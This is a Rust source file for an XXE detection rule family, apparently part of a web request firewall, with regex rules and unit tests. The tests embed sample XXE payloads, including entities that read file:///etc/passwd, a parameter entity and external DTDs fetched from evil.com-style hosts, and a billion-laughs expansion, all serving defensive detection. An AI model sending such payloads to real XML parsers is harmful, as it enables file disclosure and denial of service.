//! XML external entities: document type declarations that pull in files or URLs
//! (`<!ENTITY x SYSTEM "file:///etc/passwd">`), parameter entities (out-of-band XXE),
//! entity expansion bombs, XInclude, and external DTDs other than the W3C's public ones.
//!
//! Field values are checked by [`Family::check`]; the raw body once per request by
//! [`Family::check_request`] (so a raw-body value is skipped in `check`).

use memchr::memmem;
use regex::Regex;

use super::generic::{hit, is_raw_body};
use super::{Family, RequestContext, RuleHit, Value};
use crate::{category, Severity};

/// Bytes of a document examined at most (declarations come first in XML).
const MAX_SCAN: usize = 64 * 1024;
/// Entity declarations above which a document is an expansion bomb.
const MAX_ENTITIES: usize = 8;

/// The XXE family.
#[derive(Debug)]
pub struct Xxe {
    external_entity: Regex,
    parameter_entity: Regex,
    entity: Regex,
    external_dtd: Regex,
    xinclude: Regex,
    nested_ref: Regex,
}

/// Every family this module provides.
pub fn families() -> Vec<Box<dyn Family>> {
    vec![Box::new(Xxe::new())]
}

impl Default for Xxe {
    fn default() -> Self {
        Self::new()
    }
}

impl Xxe {
    /// Compiles the rules.
    pub fn new() -> Self {
        let re = |s: &str| Regex::new(&super::ascii_boundaries(s)).expect("xxe regex compiles");
        Self {
            external_entity: re(r#"(?i)<!ENTITY\s+(?:%\s*)?[\w.:-]+\s+(?:SYSTEM|PUBLIC)\b"#),
            parameter_entity: re(r#"(?i)<!ENTITY\s+%\s*[\w.:-]+|%[\w.:-]+;"#),
            entity: re(r#"(?i)<!ENTITY\s"#),
            external_dtd: re(
                r#"(?i)<!DOCTYPE\s+[\w.:-]+\s+(?:SYSTEM\s+["']([^"']*)["']|PUBLIC\s+["'][^"']*["']\s+["']([^"']*)["'])"#,
            ),
            xinclude: re(r#"(?i)<\w*:?include\b[^>]*\bhref\s*=|http://www\.w3\.org/2001/XInclude"#),
            nested_ref: re(r#"(?i)<!ENTITY\s+[\w.:-]+\s+["'][^"']*&[\w.:-]+;"#),
        }
    }

    fn check_doc(&self, doc: &str, out: &mut Vec<RuleHit>, spans: bool) {
        let cut = floor_char(doc, MAX_SCAN);
        let doc = &doc[..cut];
        let b = doc.as_bytes();
        let has_entity = memmem::find(b, b"<!ENTITY").is_some()
            || memmem::find(&b.to_ascii_uppercase(), b"<!ENTITY").is_some();
        let sp = |r: std::ops::Range<usize>| if spans { r } else { 0..0 };
        if has_entity {
            if let Some(m) = self.external_entity.find(doc) {
                out.push(hit(
                    "xxe.external_entity",
                    category::XXE,
                    Severity::Critical,
                    1,
                    sp(m.range()),
                ));
            } else if let Some(m) = self
                .parameter_entity
                .find(doc)
                .filter(|m| m.as_str().starts_with('<'))
            {
                out.push(hit(
                    "xxe.parameter_entity",
                    category::XXE,
                    Severity::Critical,
                    1,
                    sp(m.range()),
                ));
            }
            let count = self.entity.find_iter(doc).take(MAX_ENTITIES + 1).count();
            if count > MAX_ENTITIES || self.nested_ref.is_match(doc) {
                out.push(hit(
                    "xxe.entity_expansion",
                    category::XXE,
                    Severity::Critical,
                    1,
                    0..0,
                ));
            } else if count > 0 {
                // An internal entity on its own: rare in API payloads, harmless alone.
                out.push(hit(
                    "xxe.entity_declaration",
                    category::XXE,
                    Severity::Medium,
                    2,
                    0..0,
                ));
            }
        }
        if let Some(c) = self.external_dtd.captures(doc) {
            let system_id = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
            let w3c = system_id.starts_with("http://www.w3.org/")
                || system_id.starts_with("https://www.w3.org/");
            let m = c.get(0).expect("match");
            if !w3c {
                out.push(hit(
                    "xxe.external_dtd",
                    category::XXE,
                    Severity::Critical,
                    1,
                    sp(m.range()),
                ));
            }
        }
        if memmem::find(b, b"include").is_some() || memmem::find(b, b"XInclude").is_some() {
            if let Some(m) = self.xinclude.find(doc) {
                out.push(hit(
                    "xxe.xinclude",
                    category::XXE,
                    Severity::Critical,
                    1,
                    sp(m.range()),
                ));
            }
        }
    }
}

fn floor_char(text: &str, at: usize) -> usize {
    let mut i = at.min(text.len());
    while !text.is_char_boundary(i) {
        i -= 1;
    }
    i
}

impl Family for Xxe {
    fn check(&self, v: &Value<'_>, _ctx: &RequestContext<'_>, out: &mut Vec<RuleHit>) {
        if is_raw_body(v)
            || v.decoded.len() < 10
            || memchr::memchr(b'<', v.decoded.as_bytes()).is_none()
        {
            return;
        }
        self.check_doc(v.decoded, out, true);
    }

    fn check_request(&self, ctx: &RequestContext<'_>, out: &mut Vec<RuleHit>) {
        if ctx.body.len() < 10 || memchr::memchr(b'<', ctx.body.as_bytes()).is_none() {
            return;
        }
        self.check_doc(ctx.body, out, false);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    static FAMS: std::sync::LazyLock<Vec<Box<dyn Family>>> = std::sync::LazyLock::new(families);
    use crate::rules::generic::test_support::{check_value, rules_of};
    use crate::rules::ValueKind;
    use crate::Location;

    fn rules(v: &str) -> Vec<&'static str> {
        rules_of(&FAMS, "xml", v)
    }

    #[test]
    fn classic_xxe() {
        let doc = r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
        assert!(rules(doc).contains(&"xxe.external_entity"));
    }

    #[test]
    fn parameter_entity_and_oob() {
        let doc = r#"<!DOCTYPE d [<!ENTITY % dtd SYSTEM "http://evil/x.dtd"> %dtd;]><d/>"#;
        assert!(rules(doc).contains(&"xxe.external_entity"));
        let doc = r#"<!DOCTYPE d [<!ENTITY % a "<!ENTITY b 'x'>"> %a;]><d/>"#;
        assert!(rules(doc).contains(&"xxe.parameter_entity"));
    }

    #[test]
    fn billion_laughs() {
        let doc = r#"<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>"#;
        assert!(rules(doc).contains(&"xxe.entity_expansion"));
    }

    #[test]
    fn xinclude_and_external_dtd() {
        assert!(rules(r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#).contains(&"xxe.xinclude"));
        assert!(
            rules(r#"<!DOCTYPE foo SYSTEM "http://evil.com/x.dtd"><foo/>"#)
                .contains(&"xxe.external_dtd")
        );
    }

    #[test]
    fn raw_body_is_checked_once_per_request() {
        let doc = r#"<!DOCTYPE foo [<!ENTITY x SYSTEM "file:///etc/passwd">]><foo>&x;</foo>"#;
        let hits = check_value(
            &FAMS,
            Location::Body,
            ValueKind::Content,
            "",
            doc,
            "POST",
            Some("application/xml"),
        );
        assert_eq!(
            hits.iter()
                .filter(|h| h.rule == "xxe.external_entity")
                .count(),
            1
        );
    }

    #[test]
    fn benign_markup() {
        for d in [
            "<!DOCTYPE html><html><body>hi</body></html>",
            r#"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#,
            "<?xml version=\"1.0\"?><order><id>5</id></order>",
            "a < b and c > d, 100% sure; 50%off;",
        ] {
            assert!(rules(d).is_empty(), "{d}: {:?}", rules(d));
        }
    }
}
